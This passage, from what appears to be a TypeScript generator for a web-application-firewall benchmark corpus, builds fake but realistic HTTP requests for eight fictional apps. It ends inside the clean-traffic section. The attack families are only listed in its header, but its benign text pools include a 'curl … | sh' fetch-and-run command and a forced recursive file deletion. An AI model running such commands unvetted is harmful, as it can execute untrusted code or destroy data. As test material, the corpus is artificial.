// biome-ignore-all lint/suspicious/noTemplateCurlyInString: payloads hold literal ${…}
/**
 * Held-out WAF corpus #10, written BLIND: without reading the WAF sources, its docs, tests, the other corpora
 * or the measurement script. Only the `CorpusRequest` type is shared with the rest of the bench.
 *
 * Domains (all new): a kanban / project-management tool (kanbo), a freelancer marketplace (gigloom), a
 * food-ordering platform (forkful), a university LMS (northfield), an email-marketing platform (mailvine),
 * a podcast / video host (castwave), a customer data platform (tracelytics) and a chat / community app (hearth).
 *
 * Clean kinds: rest-write, merge-patch, json-patch, jsonapi, graphql, delete, search, form, multipart, ndjson,
 * webhook, cms-html, code, prose, i18n.
 *
 * Attack families: sql, nosql, template, command, path-traversal, ssrf, prototype-pollution, log4shell, xss;
 * techniques: plain, nested, key, array, unicode-escape, json-in-string, base64, graphql-variable, double-encoded,
 * query-param, header, cookie, form, multipart, embedded.
 *
 * Output is deterministic (mulberry32, seed 0x10aa_1010). Run directly to write `clean-heldout10.json` and
 * `attacks-heldout10.json` next to this file.
 */
import { writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import type { CorpusRequest } from './generate.ts';

type Hdrs = Record<string, string>;
type Style = 'browser' | 'mobile' | 'sdk';

/** Field paths the API owner excludes from WAF inspection: they hold markup / source code by design. */
export const HELDOUT10_EXCLUDE_FIELDS: string[] = ['body.template.html', 'body.submission.files[].content'];

function mulberry32(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const rand = mulberry32(0x10aa_1010);

function pick<T>(xs: readonly T[]): T {
  return xs[Math.floor(rand() * xs.length)] as T;
}

function int(lo: number, hi: number): number {
  return lo + Math.floor(rand() * (hi - lo + 1));
}

function chars(n: number, alphabet: string): string {
  let s = '';
  for (let i = 0; i < n; i++) s += alphabet[Math.floor(rand() * alphabet.length)];
  return s;
}

const HEX = '0123456789abcdef';
const ALNUM = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789';
const B64URL = `${ALNUM}-_`;

function uuid(): string {
  return `${chars(8, HEX)}-${chars(4, HEX)}-4${chars(3, HEX)}-${pick(['8', '9', 'a', 'b'])}${chars(3, HEX)}-${chars(12, HEX)}`;
}

function b64url(s: string): string {
  return Buffer.from(s).toString('base64url');
}

function b64(s: string): string {
  return Buffer.from(s).toString('base64');
}

function jwt(sub: string): string {
  const head = b64url('{"alg":"RS256","typ":"JWT","kid":"k1"}');
  const claims = b64url(JSON.stringify({ sub, iat: 1795000000 + int(0, 900000), scope: 'read write' }));
  return `${head}.${claims}.${chars(43, B64URL)}`;
}

/** URLSearchParams encoding (what browsers' fetch/forms and most SDKs emit: spaces as '+'). */
function qs(params: Record<string, string>): string {
  return new URLSearchParams(params).toString();
}

/** encodeURIComponent-style query (spaces as %20), as some SDKs build it. */
function qsUri(params: Record<string, string>): string {
  return Object.entries(params)
    .map(([k, v]) => `${encodeURIComponent(k)}=${encodeURIComponent(v)}`)
    .join('&');
}

interface Part {
  name: string;
  value: string;
  filename?: string;
  type?: string;
}

function multipart(parts: Part[], sdk = false): { ct: string; body: string } {
  const boundary = sdk
    ? `--------------------------${chars(24, '0123456789')}`
    : `----WebKitFormBoundary${chars(16, ALNUM)}`;
  let body = '';
  for (const p of parts) {
    body += `--${boundary}\r\nContent-Disposition: form-data; name="${p.name}"`;
    if (p.filename !== undefined) body += `; filename="${p.filename}"`;
    body += '\r\n';
    if (p.type !== undefined) body += `Content-Type: ${p.type}\r\n`;
    body += `\r\n${p.value}\r\n`;
  }
  body += `--${boundary}--\r\n`;
  return { ct: `multipart/form-data; boundary=${boundary}`, body };
}

interface Domain {
  key: string;
  api: string;
  app: string;
  cookie: string;
  mobileUa: string;
  keyPrefix: string;
  pages: string[];
}

const D: Record<string, Domain> = {
  kanban: {
    key: 'kanban',
    api: 'api.kanbo.io',
    app: 'app.kanbo.io',
    cookie: 'kb_session',
    mobileUa: 'Kanbo/5.12.0 (iPhone; iOS 18.1; Scale/3.00)',
    keyPrefix: 'kb_pat_',
    pages: ['/b/8JqkRz/roadmap', '/b/x2PLm0/sprint-47', '/c/Vn3k1/fix-export', '/settings/automations'],
  },
  market: {
    key: 'market',
    api: 'api.gigloom.com',
    app: 'www.gigloom.com',
    cookie: 'gl_sid',
    mobileUa: 'okhttp/4.12.0',
    keyPrefix: 'gl_live_',
    pages: ['/inbox/c/77120', '/jobs/441298/proposals/new', '/gigs/create', '/orders/5521/review'],
  },
  food: {
    key: 'food',
    api: 'api.forkful.app',
    app: 'forkful.app',
    cookie: 'ff_token',
    mobileUa: 'Forkful/3.41.2 (com.forkful.app; build:3412; Android 14) okhttp/4.12.0',
    keyPrefix: 'ff_sk_',
    pages: ['/checkout', '/r/tasty-thai-soho/menu', '/orders/FF-20931', '/partner/menu/edit'],
  },
  lms: {
    key: 'lms',
    api: 'lms.northfield.edu',
    app: 'lms.northfield.edu',
    cookie: '_normandy_session',
    mobileUa: 'candroid/7.8.0 (Android 14; Pixel 7)',
    keyPrefix: '8833~',
    pages: [
      '/courses/2291/assignments/88120',
      '/courses/1930/discussion_topics/4412',
      '/courses/2291/gradebook',
    ],
  },
  mail: {
    key: 'mail',
    api: 'api.mailvine.io',
    app: 'app.mailvine.io',
    cookie: 'mv_sess',
    mobileUa: 'Mailvine/2.9.1 CFNetwork/1568.200.51 Darwin/24.1.0',
    keyPrefix: 'mv-key-',
    pages: ['/campaigns/cmp_81QxZ/edit', '/audience/segments/new', '/templates/tpl_4421/design'],
  },
  pod: {
    key: 'pod',
    api: 'api.castwave.fm',
    app: 'studio.castwave.fm',
    cookie: 'cw_auth',
    mobileUa: 'CastwaveStudio/1.18 (iPad; iOS 18.1.1)',
    keyPrefix: 'cw_',
    pages: ['/shows/builders-pod/episodes/142/edit', '/shows/night-shift/analytics', '/upload'],
  },
  cdp: {
    key: 'cdp',
    api: 'api.tracelytics.io',
    app: 'app.tracelytics.io',
    cookie: 'tl_session',
    mobileUa: 'analytics-ios/4.1.8',
    keyPrefix: 'tl_wk_',
    pages: ['/ws/acme/audiences/new', '/ws/acme/funnels/checkout', '/ws/acme/debugger'],
  },
  chat: {
    key: 'chat',
    api: 'api.hearth.chat',
    app: 'hearth.chat',
    cookie: '__hearth_sid',
    mobileUa: 'Hearth/212.14 (Android 14; SM-S921B)',
    keyPrefix: 'Bot ',
    pages: ['/channels/9911/20441', '/channels/9911/20450', '/channels/@me/77812'],
  },
};

const BROWSER_UAS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.6778.81 Mobile Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:133.0) Gecko/20100101 Firefox/133.0',
];
const SDK_UAS = [
  'axios/1.7.9',
  'node',
  'python-requests/2.32.3',
  'Go-http-client/2.0',
  'okhttp/4.12.0',
  'Java/21.0.5',
  'curl/8.7.1',
  'PostmanRuntime/7.42.0',
  'Ruby',
];
const LANGS = [
  'en-US,en;q=0.9',
  'en-GB,en;q=0.8',
  'de-DE,de;q=0.9,en;q=0.7',
  'fr-FR,fr;q=0.9',
  'ja,en-US;q=0.8',
];

function hdrs(d: Domain, style: Style, ct?: string, extra: Hdrs = {}): Hdrs {
  const h: Hdrs = {};
  if (style === 'browser') {
    h['user-agent'] = pick(BROWSER_UAS);
    h.accept = 'application/json, text/plain, */*';
    h['accept-language'] = pick(LANGS);
    h['accept-encoding'] = 'gzip, deflate, br, zstd';
    if (ct !== undefined) h['content-type'] = ct;
    h.origin = `https://${d.app}`;
    h.referer = `https://${d.app}${pick(d.pages)}`;
    h.cookie = `${d.cookie}=${chars(32, B64URL)}; _ga=GA1.1.${int(100000000, 999999999)}.${int(1700000000, 1790000000)}; theme=${pick(['dark', 'light', 'system'])}`;
    h['x-request-id'] = uuid();
    h['sec-fetch-site'] = d.api === d.app ? 'same-origin' : 'same-site';
    h['sec-fetch-mode'] = 'cors';
    h['sec-fetch-dest'] = 'empty';
  } else if (style === 'mobile') {
    h['user-agent'] = d.mobileUa;
    h.accept = 'application/json';
    h['accept-language'] = pick(LANGS).split(',')[0] ?? 'en-US';
    if (ct !== undefined) h['content-type'] = ct;
    h.authorization = `Bearer ${jwt(`usr_${chars(10, ALNUM)}`)}`;
    h['x-request-id'] = uuid();
  } else {
    h['user-agent'] = pick(SDK_UAS);
    h.accept = 'application/json';
    if (ct !== undefined) h['content-type'] = ct;
    h.authorization =
      d.keyPrefix === 'Bot ' ? `Bot ${chars(59, B64URL)}` : `Bearer ${d.keyPrefix}${chars(32, ALNUM)}`;
    h['x-request-id'] = uuid();
  }
  return { ...h, ...extra };
}

const JSON_CT = 'application/json';
const FORM_CT = 'application/x-www-form-urlencoded';

function mk(
  kind: string,
  method: string,
  path: string,
  headers: Hdrs,
  body: string,
  family?: string,
  technique?: string,
): CorpusRequest {
  const r: Record<string, unknown> = { id: '', kind };
  if (family !== undefined) r.family = family;
  if (technique !== undefined) r.technique = technique;
  r.method = method;
  r.path = path;
  r.headers = headers;
  r.body = body;
  return r as unknown as CorpusRequest;
}

function style(): Style {
  return pick<Style>(['browser', 'browser', 'mobile', 'sdk']);
}

function json(
  kind: string,
  d: Domain,
  method: string,
  path: string,
  obj: unknown,
  st: Style = style(),
): CorpusRequest {
  return mk(kind, method, path, hdrs(d, st, JSON_CT), JSON.stringify(obj));
}

function id(n = 6): string {
  return chars(1, '123456789') + chars(n - 1, '0123456789');
}

// ---------------------------------------------------------------------------------------------------------------
// Text pools
// ---------------------------------------------------------------------------------------------------------------

const PROSE: Record<string, string[]> = {
  kanban: [
    "Moving this back to 'In progress' — QA found the export drops rows where the name has an apostrophe (O'Brien, D'Angelo). @maria can you take a look?",
    "Can we drop the Friday sync? Half the team is out. I'll update the board & select whoever's free for the demo.",
    'Please delete the duplicate card and insert the new one above it (order by priority, then due date).',
    'Blocked until ops restores the admin panel. Tried logging in as root on staging, got a 403 :(',
    'Reminder: sprint review is Thu 3pm; anything not in Done by then rolls over. No exceptions!! (ok, some exceptions)',
    "Checklist: 1) update copy 2) swap hero image 3) ping legal re: the '50% faster' claim — they said no claims > 30%",
    '@jon @priya heads up: the client wants the dashboard to show revenue where region = EMEA | APAC only. Scope creep? 🤔',
  ],
  market: [
    'Hi! I have 8+ years with Node/React & Postgres. I can build the admin dashboard in ~2 weeks for $1,200 (50% upfront, 50% on delivery).',
    '5/5 — she rewrote our slow SELECT ... WHERE queries and the report page went from 30s to < 200ms. Would hire again!',
    'The delivered script doesn\'t run: when I execute it I get "permission denied". He told me to just run it with sudo as root, which I\'m not comfortable doing on our prod box.',
    "Dispute: the logo files were delivered 9 days late and the .svg is just a PNG wrapped in an <image> tag. I'm asking for a 50% refund.",
    "Quick q — does your rate include revisions? Our last freelancer charged for every 'small update' lol",
    "I can scrape the listings with Python (requests + BeautifulSoup), dedupe them, and export to CSV/Excel. I'll respect robots.txt & rate limits.",
    'Thanks for the order! To start I need: 1) your brand colours (hex), 2) 2-3 logos you like, 3) anything you hate. Expect drafts by Wed.',
  ],
  food: [
    "No onions please!! Extra sauce on the side & ring twice — the buzzer's broken. Gate code #4471.",
    'Severe tree-nut allergy (cashews, almonds, pistachio). Please make sure nothing is cooked in the same oil. Thank you <3',
    'Food was great but the driver left it at the wrong door (unit 12B, not 21B). 4/5 because the fries were cold :/',
    "Please cut the burger in half; it's for 2 kids. Sauce: 50/50 ketchup & mayo if possible",
    "Leave at the front desk, tell them it's for \"Dr. Alvarez — 3rd floor\". Don't call, I'm in a meeting till 1:30",
    "Ordered the 'Spicy Level 5' and honestly it should be level 10 🔥🔥 would order again",
    'Where is my order?? The app says delivered 20 min ago but nothing at the door. Order #FF-20931',
  ],
  lms: [
    "For Q3, is it OK to use UNION instead of a JOIN? The prompt says 'select all students where gpa > 3.5 order by last name'.",
    'Prof, the autograder says my function times out, but I only call sleep(1) once to simulate network delay — is that not allowed?',
    'Great analysis of the primary sources. Your argument about the Terror would be stronger with more evidence from the Committee minutes (rubric row 2: 4/5).',
    'I think the answer key for #7 is wrong: if x < 0 then |x| = -x, so the inequality flips. Can someone confirm?',
    'Re: lab 4 — we mixed 25 mL of 0.1 M HCl with NaOH until pH ≈ 7; our titration curve had a weird bump at 12 mL. Contamination?',
    "Peer review: the intro is strong but paragraph 3 just drops the thesis. Also 'alot' → 'a lot' :)",
    'Can the exam be moved? Three of us have the CHEM 201 final at the same time (Dec 12, 9:00-11:00).',
  ],
  mail: [
    "Subject line idea: 'Last call: 40% off ends at midnight ⏰' vs 'Your cart misses you (and so do we)'",
    "Can we exclude anyone who unsubscribed OR bounced in the last 90 days from the 'VIP & Early access' segment?",
    "Why did the test send go to spam? Gmail shows 'via mailvine.io' and the DKIM check says fail",
    'Hi {{ first_name | default: "there" }}, your order has shipped! Track it here.',
  ],
  pod: [
    'In this episode: we talk to a red-teamer about SQL injection, why <script> tags still show up in bug bounties, and how to get into security without a CS degree.',
    'Correction: at 34:10 I said the DROP TABLE incident was in 2019 — it was 2018. Sorry!',
    'Huge thanks to our sponsors. Use code CAST20 for 20% off. Links & show notes below ↓',
    'Ep. 88 — "Whatever happened to Flash?" with @kerri. We cover ActionScript, eval() and why Adobe pulled the plug.',
  ],
  cdp: [
    "Funnel question: why does step 2 ('Add to Cart') show more users than step 1 ('Product Viewed')? Are we double counting iOS events?",
    'Please delete all data for user 8812 (GDPR request #2291, received 2026-11-02).',
    'The debugger shows `context.ip` as 10.0.3.17 for every server-side event — is that our NAT? We need the real client IP.',
  ],
  chat: [
    'lol who let the intern drop the prod table again 😂',
    'anyone know why `curl -I https://status.hearth.chat` hangs? ping works fine, wget too',
    'brb, grabbing coffee. if the deploy breaks just revert && ping me',
    "PSA: don't paste your .env in #general, someone just did and we had to rotate every key 🙃",
    "I'd vote option B > option A, but only if we keep the /admin route behind SSO",
    'does anyone have the cat /proc/cpuinfo output from the new runners? trying to figure out why builds got 2x slower',
    '@here standup moved to 10:30 — the "select your pizza" poll is in #random 🍕',
    'ok but hear me out: tabs > spaces; fight me ;)',
  ],
};

const I18N: [string, string][] = [
  ['kanban', 'デザインレビューは金曜日に延期します。@佐藤さん、チェックリストを更新してください。'],
  ['kanban', 'Перенести картку в «Готово» після перевірки QA.'],
  ['kanban', 'Release v2.3 — ملاحظات الإصدار attached (see PR #812)'],
  ['market', 'مرحباً، يمكنني تصميم شعار احترافي لشركتك خلال ٣ أيام. السعر يشمل ٣ تعديلات.'],
  ['market', 'העבודה הושלמה בזמן, תקשורת מצוינת. ממליץ בחום! ⭐⭐⭐⭐⭐'],
  ['market', 'আমি আপনার ওয়েবসাইটের জন্য বাংলা অনুবাদ করতে পারি।'],
  ['food', '不要香菜，少辣，谢谢！请把酱料分开放。'],
  ['food', '땅콩 알레르기가 있어요. 조리 시 주의 부탁드립니다 🙏'],
  ['food', 'कृपया प्याज़ और लहसुन न डालें — जैन भोजन।'],
  ['food', 'アレルギー：えび・かに。袋は不要です。'],
  ['lms', 'Уравнение Шрёдингера: iħ∂ψ/∂t = Ĥψ. Почему в задаче 2 волновая функция не нормирована?'],
  ['lms', 'Η απόδειξη για το θεώρημα του Πυθαγόρα: α² + β² = γ².'],
  ['lms', 'Kann jemand die Übungsblätter für Woche 5 hochladen? Die Aufgabe zur Maßtheorie ist unklar.'],
  ['lms', 'கணிதம் வீட்டுப்பாடம் — பகுதி 3 எப்போது சமர்ப்பிக்க வேண்டும்?'],
  ['mail', 'Dernière chance : –30 % sur toute la collection d’hiver, jusqu’à dimanche minuit !'],
  ['mail', '¡Hola {{first_name}}! ¿Listo para tu próxima aventura? 🌍'],
  ['mail', 'Você ganhou frete grátis na próxima compra. Válido até 30/12.'],
  ['mail', '【期間限定】年末セール開催中🎍最大50%OFF'],
  ['pod', 'ตอนนี้เราคุยกับนักพัฒนาเกมจากเชียงใหม่ ⏱ 12:30 บทที่ 2'],
  ['pod', 'Tập 42: Khởi nghiệp ở tuổi 40 — những bài học xương máu'],
  ['cdp', 'Kullanıcı özellikleri: şehir=İstanbul, dil=tr, ılık'],
  ['cdp', 'Jose\u0301 Mu\u0308ller — Cafe\u0301 Zoe\u0308 (NFD name from the Android SDK)'],
  ['chat', '👩‍💻👨‍👩‍👧‍👦🏳️‍🌈 ship it!! 🚀🚀'],
  ['chat', 'Z̷a̸l̵g̶o̴ ̷t̶e̷x̶t̸ is back in #memes'],
  ['chat', 'سلام به همه! جلسه امروز ساعت ۱۵:۰۰ برگزار می‌شود.'],
  ['chat', 'ሰላም ለሁሉም! እንኳን ደህና መጣችሁ።'],
  ['chat', 'ㅋㅋㅋ 이거 진짜 웃기다 😂'],
];

const CODE: [string, string][] = [
  [
    'chat',
    '```js\nconst res = await fetch(`/api/users/${id}`);\nif (!res.ok) throw new Error(`HTTP ${res.status}`);\n```\nwhy does this throw on 304?',
  ],
  [
    'chat',
    '```bash\ncurl -sSL https://get.docker.com | sh\nsudo usermod -aG docker $USER && newgrp docker\n```\nis this still the recommended way?',
  ],
  [
    'chat',
    "```sql\nSELECT u.id, count(*) FROM users u JOIN orders o ON o.user_id = u.id\nWHERE o.created_at > now() - interval '7 days'\nGROUP BY u.id ORDER BY 2 DESC LIMIT 10;\n```",
  ],
  [
    'chat',
    "```python\nimport subprocess\nout = subprocess.run(['ls', '-la', '/var/log'], capture_output=True, text=True)\nprint(out.stdout)\n```",
  ],
  [
    'chat',
    "stack trace from prod:\n```\nTypeError: Cannot read properties of undefined (reading 'map')\n    at renderList (/app/src/components/List.tsx:42:17)\n    at processChild (/app/node_modules/react-dom/cjs/react-dom-server.node.development.js:3353:14)\n```",
  ],
  [
    'chat',
    '```yaml\nservices:\n  db:\n    image: postgres:16\n    environment:\n      POSTGRES_PASSWORD: ${POSTGRES_PASSWORD}\n    volumes:\n      - ./data:/var/lib/postgresql/data\n```',
  ],
  [
    'chat',
    '```html\n<button onclick="toggleMenu()">Menu</button>\n<script src="/js/menu.js" defer></script>\n```\nwhy does the menu flash on load?',
  ],
  [
    'chat',
    '```go\nfunc main() {\n\tdb, err := sql.Open("postgres", os.Getenv("DATABASE_URL"))\n\tif err != nil {\n\t\tlog.Fatal(err)\n\t}\n\tdefer db.Close()\n}\n```',
  ],
  ['chat', '```rust\nlet out = Command::new("git").args(["rev-parse", "HEAD"]).output()?;\n```'],
  [
    'chat',
    '```dockerfile\nFROM node:24-alpine\nRUN apk add --no-cache curl\nCOPY . /srv/app\nCMD ["node", "server.js"]\n```',
  ],
  [
    'chat',
    "Error: Cannot find module '../../config/default.json'\nRequire stack:\n- /srv/app/dist/server.js\n- /srv/app/dist/index.js",
  ],
  [
    'kanban',
    "Repro:\n```\n$ npm run build\n> tsc -p . && node scripts/copy-assets.js\nError: ENOENT: no such file or directory, open '../shared/assets/logo.svg'\n```",
  ],
  [
    'kanban',
    'Log excerpt:\n```\n2026-11-20T03:12:55Z ERROR db: deadlock detected while executing UPDATE cards SET position = $1 WHERE id = $2\n2026-11-20T03:12:55Z WARN retrying (attempt 2/5)\n```',
  ],
  [
    'kanban',
    'Nginx config that fixed it:\n```nginx\nlocation /api/ {\n  proxy_pass http://127.0.0.1:8080/;\n  proxy_set_header X-Forwarded-For $proxy_add_x_forwarded_for;\n}\n```',
  ],
  [
    'kanban',
    '```ts\nexport function move(card: Card, to: ListId): Card {\n  return { ...card, listId: to, position: Number.MAX_SAFE_INTEGER };\n}\n```',
  ],
  [
    'kanban',
    'java.lang.NullPointerException: Cannot invoke "String.length()" because "name" is null\n\tat com.kanbo.sync.Worker.run(Worker.java:88)\n\tat java.base/java.lang.Thread.run(Thread.java:1583)',
  ],
  [
    'lms',
    "My recursive solution:\n```python\ndef fib(n):\n    if n < 2:\n        return n\n    return fib(n - 1) + fib(n - 2)\n```\nIt works but it's O(2^n). Is @lru_cache allowed?",
  ],
  [
    'lms',
    '```java\npublic static void main(String[] args) {\n    Scanner sc = new Scanner(System.in);\n    int n = sc.nextInt();\n    System.out.println(n % 2 == 0 ? "even" : "odd");\n}\n```\nThe judge says Runtime error on test 4??',
  ],
  [
    'lms',
    '```c\nchar buf[16];\nstrcpy(buf, argv[1]); /* lab 6: show why this is unsafe */\nprintf("%s\\n", buf);\n```',
  ],
  [
    'lms',
    'Q2 answer:\n```sql\nSELECT s.name, AVG(g.score) AS avg\nFROM students s\nLEFT JOIN grades g ON g.student_id = s.id\nGROUP BY s.name\nHAVING AVG(g.score) > 80\nORDER BY avg DESC;\n```',
  ],
  [
    'lms',
    '$$\\sum_{k=1}^{n} k^2 = \\frac{n(n+1)(2n+1)}{6}$$ Proof by induction: assume it holds for $n$, then add $(n+1)^2$ to both sides and factor.',
  ],
  [
    'lms',
    'Balanced: $\\mathrm{C_3H_8 + 5O_2 \\rightarrow 3CO_2 + 4H_2O}$, $\\Delta H = -2220\\,\\mathrm{kJ/mol}$',
  ],
  ['lms', '```r\nmodel <- lm(y ~ x1 + x2, data = df)\nsummary(model)\nplot(model$residuals)\n```'],
  [
    'lms',
    "```js\ndocument.getElementById('out').innerHTML = `<b>${total}</b>`;\n```\nwhy does the linter flag innerHTML?",
  ],
  [
    'lms',
    'my .bashrc has `alias ll=\'ls -alF\'` and `export PATH="$HOME/bin:$PATH"` but `ll` still fails in the lab VM',
  ],
  [
    'market',
    "Here's the webhook handler I mentioned:\n```php\n$payload = json_decode(file_get_contents('php://input'), true);\nif ($payload['type'] === 'order.paid') { fulfil($payload['data']['id']); }\n```",
  ],
  [
    'market',
    '```powershell\nGet-ChildItem -Path C:\\Users\\*\\AppData\\Local\\Temp -Recurse | Remove-Item -Force\n```\nthis is what the nightly cleanup task runs',
  ],
  ['market', 'crontab: `*/5 * * * * /usr/bin/php /var/www/artisan schedule:run >> /dev/null 2>&1`'],
  [
    'cdp',
    "analytics.track('Order Completed', { orderId: '50314b8e', revenue: 25.0, products: [{ sku: 'SKU-1', qty: 2 }] });",
  ],
  [
    'cdp',
    "```sql\nSELECT user_id FROM tracks WHERE event = 'Subscription Cancelled' AND timestamp > current_date - 30\nUNION\nSELECT user_id FROM identifies WHERE plan = 'free'\n```",
  ],
  [
    'pod',
    'ffmpeg -i ep142.wav -af loudnorm=I=-16:TP=-1.5:LRA=11 -ar 44100 -b:a 128k ep142.mp3 && rm ep142.wav',
  ],
];

function textEndpoint(kind: string, dk: string, text: string): CorpusRequest {
  const d = D[dk] as Domain;
  switch (dk) {
    case 'kanban':
      return json(kind, d, 'POST', `/v1/cards/${chars(8, ALNUM)}/comments`, {
        body: text,
        mentions: text.includes('@') ? [`usr_${chars(8, ALNUM)}`] : [],
      });
    case 'market':
      return pick([
        () =>
          json(kind, d, 'POST', `/v1/conversations/${id()}/messages`, {
            text,
            attachments: [],
            clientMsgId: uuid(),
          }),
        () => json(kind, d, 'POST', `/v1/orders/${id()}/reviews`, { rating: int(3, 5), text, public: true }),
        () =>
          json(kind, d, 'POST', `/v1/jobs/${id()}/proposals`, {
            coverLetter: text,
            bid: { amount: int(150, 4000), currency: 'USD' },
            deliveryDays: int(2, 30),
          }),
      ])();
    case 'food':
      return pick([
        () =>
          json(kind, d, 'POST', '/v2/orders', {
            restaurantId: `rst_${chars(10, ALNUM)}`,
            items: [{ menuItemId: `itm_${chars(8, ALNUM)}`, quantity: int(1, 3), specialInstructions: text }],
            fulfillment: { type: 'delivery', addressId: `adr_${chars(8, ALNUM)}` },
            tipCents: int(0, 800),
          }),
        () =>
          json(kind, d, 'POST', `/v2/restaurants/${chars(10, ALNUM)}/reviews`, {
            orderId: `FF-${id(5)}`,
            stars: int(1, 5),
            comment: text,
          }),
        () => json(kind, d, 'PATCH', `/v2/orders/FF-${id(5)}`, { deliveryNotes: text }),
      ])();
    case 'lms':
      return pick([
        () =>
          json(
            kind,
            d,
            'POST',
            `/api/v1/courses/${id(4)}/discussion_topics/${id(4)}/entries`,
            { message: text },
            'browser',
          ),
        () =>
          json(kind, d, 'POST', `/api/v1/courses/${id(4)}/assignments/${id(5)}/submissions`, {
            submission: { submission_type: 'online_text_entry', body: text },
          }),
        () =>
          json(kind, d, 'PUT', `/api/v1/courses/${id(4)}/assignments/${id(5)}/submissions/${id(5)}`, {
            comment: { text_comment: text, group_comment: false },
          }),
      ])();
    case 'mail':
      return json(kind, d, 'POST', `/v3/campaigns/${chars(8, ALNUM)}/notes`, { note: text });
    case 'pod':
      return json(kind, d, 'PUT', `/v1/shows/${chars(6, ALNUM)}/episodes/${id(3)}`, {
        description: text,
        explicit: false,
      });
    case 'cdp':
      return json(kind, d, 'POST', '/v1/support/tickets', {
        subject: text.slice(0, 40),
        body: text,
        workspace: 'acme',
      });
    default:
      return pick([
        () =>
          json(kind, d, 'POST', `/api/v10/channels/${id(18)}/messages`, {
            content: text,
            nonce: id(18),
            tts: false,
            flags: 0,
          }),
        () =>
          json(kind, d, 'POST', `/api/v10/channels/${id(18)}/messages`, {
            content: text,
            message_reference: { message_id: id(18), channel_id: id(18), fail_if_not_exists: false },
            allowed_mentions: { parse: ['users'], replied_user: true },
          }),
        () => json(kind, d, 'PATCH', `/api/v10/channels/${id(18)}/messages/${id(18)}`, { content: text }),
      ])();
  }
}

// ---------------------------------------------------------------------------------------------------------------
// Clean traffic
// ---------------------------------------------------------------------------------------------------------------

const CARD_TITLES = [
  'Fix CSV export for names with apostrophes',
  'Q1 roadmap: onboarding v2',
  'Investigate slow /search (p95 > 2s)',
  'Update privacy policy & cookie banner',
  'Drop support for IE11 (finally)',
  'Migrate cron jobs to the scheduler',
  'Design: empty states for boards',
  "Customer call — 'Acme & Sons' renewal",
];
const GIG_TITLES = [
  'I will design a minimalist logo for your brand',
  'I will build a REST API with Node.js, Express & PostgreSQL',
  'I will fix WordPress errors, malware & speed issues',
  'I will translate English ↔ Spanish (legal & medical)',
  'I will write SQL queries, views and stored procedures',
  'I will edit your podcast: noise removal, EQ & show notes',
];
const DISHES = [
  ['Pad Thai (tofu)', ['peanuts', 'soy', 'egg']],
  ['Margherita pizza 12"', ['gluten', 'milk']],
  ['Salmon poke bowl', ['fish', 'soy', 'sesame']],
  ['Caesar salad', ['egg', 'fish', 'milk', 'gluten']],
  ["Mac 'n' cheese", ['milk', 'gluten']],
  ['Chana masala', []],
  ['Prawn dumplings (6 pcs)', ['crustaceans', 'gluten', 'sesame']],
] as const;
const EPISODES = [
  'Ep. 142 — Shipping on Fridays',
  'Night Shift #31: The 3 a.m. pager',
  'Builders Pod: Scaling Postgres to 10 TB',
  'S2E07 — "Is SQL dead?" (spoiler: no)',
  'Bonus: Live Q&A from Lisbon 🇵🇹',
];
const EVENTS = [
  'Order Completed',
  'Product Viewed',
  'Signed Up',
  'Checkout Started',
  'Plan Upgraded',
  'Search Performed',
];

function restWrite(): CorpusRequest[] {
  const out: CorpusRequest[] = [];
  const t: (() => CorpusRequest)[] = [
    () =>
      json('rest-write', D.kanban as Domain, 'POST', `/v1/boards/${chars(6, ALNUM)}/cards`, {
        title: pick(CARD_TITLES),
        description: `## Context\n${pick(PROSE.kanban as string[])}\n\n- [ ] repro\n- [ ] fix\n- [ ] release notes`,
        listId: `lst_${chars(8, ALNUM)}`,
        labels: ['bug', pick(['p1', 'p2', 'frontend', 'backend'])],
        dueAt: `2026-12-${String(int(1, 28)).padStart(2, '0')}T17:00:00.000Z`,
        assignees: [`usr_${chars(8, ALNUM)}`],
      }),
    () =>
      json('rest-write', D.kanban as Domain, 'POST', `/v1/boards/${chars(6, ALNUM)}/automations`, {
        name: 'Move to Done when checklist complete',
        trigger: { type: 'checklist.completed' },
        conditions: [{ field: 'list.name', op: 'not_equals', value: 'Done' }],
        actions: [
          { type: 'card.move', toList: 'Done', position: 'top' },
          { type: 'comment.add', text: '✅ Auto-moved by {{trigger.user.name}} on {{date}}' },
        ],
        enabled: true,
      }),
    () =>
      json(
        'rest-write',
        D.kanban as Domain,
        'PUT',
        `/v1/cards/${chars(8, ALNUM)}/checklists/${chars(6, ALNUM)}`,
        {
          title: 'Release checklist',
          items: [
            { text: 'Run migrations (`npm run db:migrate`)', done: true },
            { text: 'Update CHANGELOG.md & tag v2.3.0', done: false },
            { text: 'Notify #eng-announce', done: false },
          ],
        },
      ),
    () =>
      json('rest-write', D.market as Domain, 'POST', '/v1/gigs', {
        title: pick(GIG_TITLES),
        category: pick(['programming', 'design', 'writing', 'audio']),
        packages: [
          { tier: 'basic', priceCents: int(2000, 9000), deliveryDays: int(2, 7), revisions: 1 },
          { tier: 'premium', priceCents: int(15000, 50000), deliveryDays: int(7, 21), revisions: 3 },
        ],
        description: pick(PROSE.market as string[]),
        tags: ['node.js', 'api', 'postgres'],
        faq: [{ q: 'Do you sign NDAs?', a: 'Yes — happy to sign yours before we start.' }],
      }),
    () =>
